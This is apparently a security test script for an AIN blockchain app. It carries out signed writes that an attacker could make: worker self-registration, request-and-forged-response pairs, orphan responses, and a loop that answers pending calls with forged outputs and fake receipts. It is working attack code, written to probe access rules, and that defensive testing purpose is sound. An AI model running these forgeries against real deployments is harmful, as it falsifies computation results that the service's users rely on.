// Direct signed writes an attacker (or a careless client) could make, with ain-js
// (NODE_PATH=tests/js/node_modules after `npm ci` there; AIN_NODE = the node's base URL).
// Usage: node attack.js MODE APP [args]
//   selfreg APP KEY              : KEY writes its own registry entry workers/<addr>
//   reqresp APP KEY              : KEY writes a request and a forged response in one SET
//   orphan APP KEY               : KEY writes a response for a call id that has no request
//   answer APP KEY FN SECONDS    : KEY answers every unanswered request of FN with a forged output
const Ain = require('@ainblockchain/ain-js').default;
const [mode, app, key, fn = 'echo', secs = '20'] = process.argv.slice(2);
const ain = new Ain(process.env.AIN_NODE || 'http://127.0.0.1:8081', null, 0);
const addr = ain.wallet.addAndSetDefaultAccount(key);
const out = (o) => console.log(JSON.stringify(o));
const receipt = (reqTx, w) => ({
  code_hash: '4d38b83325fabd8b42bb7892532a28f0ef0f6e73e49ccd44f59f0672a8651201',
  input_hash: '00'.repeat(32), output_hash: '00'.repeat(32), request_tx: reqTx || '0x' + '00'.repeat(32),
  runtime: 'wasm', sandbox: 'wasm', profile: 'default', started_at: Date.now(), finished_at: Date.now(),
  usage: { cpu_us: 1, mem_peak_kb: 1, wall_us: 1 }, worker: w,
});
const base = `/apps/${app}/sre`;
async function main() {
  out({ signer: addr, mode });
  if (mode === 'selfreg') {
    const r = await ain.db.ref(`${base}/workers/${addr}`).setValue({
      value: { runtimes: { wasm: true }, profiles: { default: true }, version: 'x', capacity: 1 }, nonce: -1, gas_price: 0 });
    out({ write: `workers/${addr}`, result: r });
  } else if (mode === 'reqresp') {
    const id = `atk-${Date.now()}`;
    const r = await ain.db.ref('/').set({ op_list: [
      { type: 'SET_VALUE', ref: `${base}/calls/${fn}/${id}/request`, value: { input: '{"x":1}' } },
      { type: 'SET_VALUE', ref: `${base}/calls/${fn}/${id}/response`, value: { status: 'ok', output: 'FAKE RESULT', receipt: receipt(null, addr) } },
    ], nonce: -1, gas_price: 0 });
    out({ write: `calls/${fn}/${id}/{request,response}`, result: r });
  } else if (mode === 'failset') {
    // A request whose tx fails after the request op ran (and fired VALUE_CHANGED): op 1 is refused.
    const id = `failset-${Date.now()}`;
    const r = await ain.db.ref('/').set({ op_list: [
      { type: 'SET_VALUE', ref: `${base}/calls/${fn}/${id}/request`, value: { input: '{"x":"failset"}' } },
      { type: 'SET_VALUE', ref: `${base}/functions/${fn}/code_hash`, value: 'not-the-admin' },
    ], nonce: -1, gas_price: 0 });
    out({ write: `calls/${fn}/${id}/request + functions/${fn}/code_hash`, call_id: id, result: r });
  } else if (mode === 'orphan') {
    const id = `orphan-${Date.now()}`;
    const r = await ain.db.ref(`${base}/calls/${fn}/${id}/response`).setValue({
      value: { status: 'ok', output: 'FAKE RESULT', receipt: receipt(null, addr) }, nonce: -1, gas_price: 0 });
    out({ write: `calls/${fn}/${id}/response`, result: r });
    out({ request_in_state: await ain.db.ref(`${base}/calls/${fn}/${id}/request`).getValue(),
          response_in_state: await ain.db.ref(`${base}/calls/${fn}/${id}/response`).getValue() });
  } else if (mode === 'answer') {
    const end = Date.now() + Number(secs) * 1000;
    const done = new Set();
    while (Date.now() < end) {
      const calls = (await ain.db.ref(`${base}/calls/${fn}`).getValue()) || {};
      for (const [id, c] of Object.entries(calls)) {
        if (done.has(id) || !c || !c.request || c.response) continue;
        done.add(id);
        // The request tx hash, as the attacker read it: from the node's tx pool/blocks is
        // what a real attacker does; here the caller's request tx is looked up by scanning the last blocks.
        let reqTx = null;
        for (let tries = 0; tries < 40 && !reqTx; tries++) {
        if (tries) await new Promise((res) => setTimeout(res, 100));
        const last = await ain.provider.send('ain_getLastBlockNumber', {});
        for (let n = last; n > last - 10 && !reqTx; n--) {
          const b = await ain.provider.send('ain_getBlockByNumber', { number: n, getFullTransactions: true });
          for (const t of (b && b.transactions) || []) {
            const op = t.tx_body.operation;
            if (op.ref === `${base}/calls/${fn}/${id}/request`) reqTx = t.hash;
          }
        }
        }
        const r = await ain.db.ref(`${base}/calls/${fn}/${id}/response`).setValue({
          value: { status: 'ok', output: 'FAKE RESULT', receipt: { ...receipt(reqTx, addr) } }, nonce: -1, gas_price: 0 });
        out({ answered: id, request_tx: reqTx, result: r });
      }
      await new Promise((res) => setTimeout(res, 100));
    }
  }
}
main().then(() => process.exit(0), (e) => { console.error(e.stack || String(e)); process.exit(1); });
